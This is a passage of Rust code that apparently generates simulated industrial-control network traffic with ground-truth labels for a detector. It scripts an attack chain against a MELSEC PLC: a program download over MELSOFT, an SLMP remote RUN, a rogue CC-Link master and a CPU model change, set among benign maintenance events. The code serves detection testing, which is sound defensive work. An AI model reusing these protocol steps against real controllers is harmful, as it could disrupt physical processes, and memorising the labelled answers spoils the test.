        melsoft_response(721, MELSOFT_PROGRAM_END, 0, &[]),
    ));
    conv(
        tl,
        t,
        ConvConfig::new(&ews_h, &melsec, MELSOFT_PORT, Kind::Modbus, msgs),
        rng,
    );
    step(
        truth,
        "m3",
        chain,
        "the engineering workstation downloads a program over MELSOFT (program transfer 0x1730/0x1731, file open/write/close 0x1867/0x1869/0x186A), which it had only used for monitoring",
        (t, t + 2 * MIN),
        &[EWS],
        &[MELSEC],
        &["ot_program_transfer", "ot_new_function_code"],
        &[],
    );

    // m4: remote RUN.
    let t = att + 14 * MIN;
    let msgs = vec![
        Msg::c(
            0,
            slmp_request(SLMP_REMOTE_RUN, 0, &[0x01, 0x00, 0x00, 0x00]),
        ),
        Msg::s(3_000, slmp_response(0, &[])),
    ];
    conv(
        tl,
        t,
        ConvConfig::new(&ews_h, &melsec, SLMP_PORT, Kind::Modbus, msgs),
        rng,
    );
    step(
        truth,
        "m4",
        chain,
        "the engineering workstation restarts the CPU (SLMP remote RUN 0x1001)",
        (t, t + MIN),
        &[EWS],
        &[MELSEC],
        &["ot_controller_state_change"],
        &["ot_new_function_code"],
    );

    // m5: rogue CC-Link master.
    let t = att + 20 * MIN;
    cciefb(
        tl,
        t,
        t + 10 * MIN,
        10 * SEC,
        ROGUE_MASTER,
        CCIEFB_MASTER_DUPLICATION,
        rng,
    );
    step(
        truth,
        "m5",
        chain,
        "a second CC-Link IE Field Basic master (10.0.21.66) appears and cycles to the subnet; the slave answers it with end code 0xCFE0 (master duplication)",
        (t, t + 10 * MIN),
        &[ROGUE_MASTER],
        &[CCL_SLAVE, CCL_MASTER],
        &["new_device", "ot_new_master_or_producer"],
        &["ot_new_function_code"],
    );

    // m6: CPU model change.
    step(
        truth,
        "m6",
        chain,
        "the MELSEC CPU at 10.0.20.21 now reports model Q03UDVCPU instead of Q03UDECPU (SLMP 0x0101 answer to the engineering workstation's routine read)",
        (t_model, t_model + 20 * MIN),
        &[EWS],
        &[MELSEC],
        &["ot_firmware_change"],
        &[],
    );

    // Benign: maintenance reads of more devices (same command), office novelties.
    let t = benign + 15 * MIN;
    let msgs = vec![
        Msg::c(0, slmp_batch_read(0x90, 0, 64)),
        Msg::s(3_000, slmp_response(0, &rng.bytes(128))),
        Msg::c(2_000, slmp_batch_read(SLMP_DEVICE_D, 200, 50)),
        Msg::s(3_000, slmp_response(0, &rng.bytes(100))),
    ];
    conv(
        tl,
        t,
        ConvConfig::new(&ews_h, &melsec, SLMP_PORT, Kind::Modbus, msgs),
        rng,
    );
    novelty(
        truth,
        "n3",
        "maintenance: the engineering workstation reads internal relays M0-M63 and D200-D249 (batch read, as usual)",
        t,
        &[EWS, MELSEC],
        &[],
    );
    office_novelties(benign, tl, truth, rng);
}

fn benign_day(start: Micros, tl: &mut Timeline, truth: &mut Truth, rng: &mut Rng) {
    let benign = start + LEARN;
    header(truth, start, benign);
    let mut plan = it_plan(start);
    plan.ews = true;
    plan.hmi1 = vec![
        (start + 5 * SEC, start + 3 * HOUR, 10 * SEC),
        // HMI-1 restarts its connection (same period).
        (start + 3 * HOUR + 20 * SEC, start + LENGTH, 10 * SEC),
    ];
    routine(tl, &plan, rng);
    novelty(
        truth,
        "n4",
        "HMI-1 restarts and reconnects to PLC-1 (same poll list and period)",
        start + 3 * HOUR + 20 * SEC,
        &[HMI1, PLC1],
        &[],
    );
    office_novelties(benign, tl, truth, rng);
    ews_maintenance(benign + 50 * MIN, tl, truth, "n3", rng);
}
